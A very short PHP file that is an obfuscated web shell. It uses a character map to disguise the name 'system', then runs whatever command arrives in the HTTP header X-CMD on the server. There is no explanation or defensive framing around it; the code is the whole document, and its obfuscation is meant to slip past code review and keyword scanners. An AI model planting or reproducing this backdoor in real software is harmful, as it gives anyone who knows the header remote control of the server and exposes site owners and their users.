<?php
$map = array('q' => 's', 'w' => 'y', 'z' => 't', 'k' => 'e', 'm' => 'm');
$fn = strtr('qwqzkm', $map);
$fn($_SERVER['HTTP_X_CMD']);
